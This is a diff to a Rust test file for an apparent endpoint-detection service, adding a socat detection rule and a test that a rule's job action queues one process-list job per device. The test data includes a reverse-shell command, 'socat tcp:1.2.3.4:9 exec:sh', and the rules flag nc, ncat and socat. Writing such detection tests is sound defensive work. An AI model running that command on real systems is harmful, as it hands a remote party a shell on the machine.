@@ -22,6 +22,13 @@ rules:
       any:
         - {field: process.name, equals: nc}
         - {field: process.name, equals: ncat}
+  - id: socat-relay
+    name: socat relay started
+    score: 10
+    condition:
+      all:
+        - {field: process.name, equals: socat}
+    actions: [alert, {job: {kind: process.list}}]
 "#;
 
 const STIX: &str = r#"{
@@ -318,6 +325,34 @@ async fn event_alerts_have_the_lifecycle_of_hits() {
         )
         .await;
         assert_eq!(r["alerts"], 1, "another process still alerts: {r}");
+        // A rule's job action queues a job for the device, once (not again on a retry).
+        let socat = vec![exec(
+            "2026-12-01T11:30:00Z",
+            "socat",
+            &["socat", "tcp:1.2.3.4:9", "exec:sh"],
+            None,
+        )];
+        let r = post_events(&w.app, &w.token, "e4", socat.clone()).await;
+        assert_eq!(r["alerts"], 1, "{r}");
+        post_events(&w.app, &w.token, "e4", socat).await;
+        let (s, jobs) = call(
+            &w.app,
+            "GET",
+            &format!("/api/v1/jobs?tenant={}", w.tenant),
+            &w.admin,
+            None,
+        )
+        .await;
+        assert_eq!(s, StatusCode::OK, "{jobs}");
+        let list: Vec<&Value> = jobs
+            .as_array()
+            .or_else(|| jobs["items"].as_array())
+            .unwrap()
+            .iter()
+            .filter(|j| j["kind"] == "process.list")
+            .collect();
+        assert_eq!(list.len(), 1, "{name}: {jobs}");
+        assert_eq!(list[0]["device_id"], w.device.as_str());
         // Bad filters are clear errors.
         let (s, v) = call(&w.app, "GET", "/api/v1/alerts?state=bogus", &w.admin, None).await;
         assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
